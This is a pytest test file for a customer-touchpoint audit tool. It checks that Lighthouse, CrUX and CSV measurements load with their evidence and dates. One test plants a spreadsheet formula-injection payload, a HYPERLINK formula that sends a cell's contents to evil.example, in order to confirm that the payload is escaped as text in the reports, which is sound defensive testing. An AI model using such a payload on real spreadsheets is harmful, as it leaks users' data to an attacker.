"""An audit names the files its measurements come from: the loader reads them beside it, fills
the criteria they measure with their evidence and date, and the report shows both."""

from __future__ import annotations

import json
import shutil
from pathlib import Path

import pytest
from typer.testing import CliRunner

from touchaudit import load_audit, score_audit
from touchaudit.cli.app import app
from touchaudit.reading.errors import AuditError

LIGHTHOUSE_12 = "lighthouse-12.0.0-coursehero.json"


def _audit(folder: Path, sources: str, criteria: str = "", extra: str = "") -> Path:
    text = (
        "touchaudit: 1\ncompany: Acme\naudited_on: 2024-06-01\ntouchpoints:\n"
        f"  site:\n    channel: website\n{criteria}    sources:\n{sources}{extra}"
    )
    path = folder / "audit.yaml"
    path.write_text(text, encoding="utf-8")
    return path


@pytest.fixture
def site_report(lighthouse_fixtures: Path, tmp_path: Path) -> dict[str, object]:
    """The real Lighthouse 12 report, beside the audit (copied into the test's folder)."""
    (tmp_path / "reports").mkdir()
    shutil.copy(lighthouse_fixtures / LIGHTHOUSE_12, tmp_path / "reports" / "site.json")
    report = json.loads((lighthouse_fixtures / LIGHTHOUSE_12).read_bytes())
    assert isinstance(report, dict)
    return report


def test_score_reads_lcp_cls_and_the_performance_score_from_the_named_report(
    site_report: dict[str, object], tmp_path: Path
) -> None:
    path = _audit(tmp_path, "      - lighthouse: reports/site.json\n")
    card = score_audit(load_audit(path))
    scored = {c.id: c for c in card.touchpoints[0].criteria}
    audits = site_report["audits"]
    assert isinstance(audits, dict)
    assert scored["lcp"].value == audits["largest-contentful-paint"]["numericValue"]
    assert scored["cls"].value == audits["cumulative-layout-shift"]["numericValue"]
    categories = site_report["categories"]
    assert isinstance(categories, dict)
    performance = categories["performance"]["score"] * 100
    assert scored["lighthouse_performance"].value == pytest.approx(performance)
    for criterion in ("lcp", "cls", "lighthouse_performance"):
        assert scored[criterion].score is not None
        measurement = scored[criterion].measurement
        assert measurement is not None
        assert measurement.evidence is not None
        assert measurement.evidence.startswith("reports/site.json: ")
        assert str(measurement.measured_on) == str(site_report["fetchTime"])[:10]


def test_the_report_shows_each_imported_value_with_its_source_and_date(
    site_report: dict[str, object], tmp_path: Path
) -> None:
    path = _audit(tmp_path, "      - lighthouse: reports/site.json\n")
    result = CliRunner().invoke(app, ["report", str(path), "--format", "markdown"])
    assert result.exit_code == 0, result.stderr
    day = str(site_report["fetchTime"])[:10]
    rows = result.stdout.splitlines()
    line = next(x for x in rows if x.startswith("| Largest Contentful Paint (LCP) | ms |"))
    assert "(evidence: reports/site.json: audits.largest-contentful-paint.numericValue)" in line
    assert f"(measured on {day}" in line
    html = _html(path)
    assert f"Measured on {day}" in html
    assert "Evidence: reports/site.json: audits.cumulative-layout-shift.numericValue" in html


@pytest.mark.usefixtures("site_report")
def test_a_value_written_in_the_yaml_wins_with_a_warning_when_it_differs(tmp_path: Path) -> None:
    criteria = "    criteria:\n      lcp: 2.1 s\n      cls: null\n"
    path = _audit(tmp_path, "      - lighthouse: reports/site.json\n", criteria)
    loaded = load_audit(path)
    lcp = loaded.measurements["site"]["lcp"]
    assert (lcp.value, lcp.evidence) == (2100.0, None)
    assert loaded.measurements["site"]["cls"].evidence  # null is a place to fill, not a value
    (warning,) = [w for w in loaded.warnings if w.code == "source-differs"]
    assert (warning.line, warning.column) == (8, 12)
    assert "2.1 s written in the audit is scored, not 6609.93 ms" in warning.message


def test_sources_count_towards_max_bytes(site_report: dict[str, object], tmp_path: Path) -> None:
    path = _audit(tmp_path, "      - lighthouse: reports/site.json\n")
    size = (tmp_path / "reports" / "site.json").stat().st_size
    assert load_audit(path, max_bytes=size + 1000)
    with pytest.raises(AuditError) as caught:
        load_audit(path, max_bytes=size)
    (problem,) = caught.value.problems
    assert problem.code == "too-large"
    assert "over --max-bytes" in problem.message


def _html(audit: Path) -> str:
    output = audit.parent / "report.html"
    result = CliRunner().invoke(app, ["report", str(audit), "-o", str(output)])
    assert result.exit_code == 0, result.stderr
    return output.read_text(encoding="utf-8")


def _log(folder: Path, text: str, name: str = "calls.csv") -> None:
    (folder / name).write_text(text, encoding="utf-8")


PHONE = "  phone:\n    channel: phone\n    sources:\n      - csv: calls.csv\n"


def test_a_log_fills_every_touchpoint_it_names_and_is_read_once(tmp_path: Path) -> None:
    _log(
        tmp_path,
        "touchpoint,criterion,value,measured_on\n"
        "phone,answer_time,8 s,2024-05-01\nphone,answer_time,12 s,2024-05-03\n"
        "phone,answer_time,35 s,2024-05-02\nsite,callback_request,yes,\n",
    )
    path = _audit(tmp_path, "      - csv: calls.csv\n", extra=PHONE)
    loaded = load_audit(path)
    answer = loaded.measurements["phone"]["answer_time"]
    assert answer.value == 12.0
    assert answer.samples == "median of 3 calls"
    assert answer.evidence == "calls.csv (3 rows)"
    assert str(answer.measured_on) == "2024-05-03"  # the latest sample
    assert loaded.measurements["site"]["callback_request"].value is True


def test_a_formula_in_a_note_is_text_in_every_report(tmp_path: Path) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    _log(
        tmp_path,
        'touchpoint,criterion,value,note\nsite,callback_request,no,"'
        + formula.replace('"', '""')
        + '"\n',
    )
    path = _audit(tmp_path, "      - csv: calls.csv\n")
    assert load_audit(path).measurements["site"]["callback_request"].note == formula
    markdown = CliRunner().invoke(app, ["report", str(path), "--format", "markdown"]).stdout
    html = _html(path)
    assert formula not in html  # its quotes are escaped
    assert "=HYPERLINK(&#34;http://evil.example/?&#34;&amp;A1,&#34;Click&#34;)" in html
    assert "(note: \\=HYPERLINK" in markdown or "(note: =HYPERLINK" in markdown


@pytest.mark.usefixtures("site_report")
def test_the_first_source_listed_wins_for_a_criterion(tmp_path: Path) -> None:
    crux = {"record": {"metrics": {"largest_contentful_paint": {"percentiles": {"p75": 2300}}}}}
    (tmp_path / "crux.json").write_text(json.dumps(crux), encoding="utf-8")
    sources = "      - crux: crux.json\n      - lighthouse: reports/site.json\n"
    loaded = load_audit(_audit(tmp_path, sources))
    assert loaded.measurements["site"]["lcp"].value == 2300.0
    assert loaded.measurements["site"]["cls"].evidence is not None  # the second fills the rest
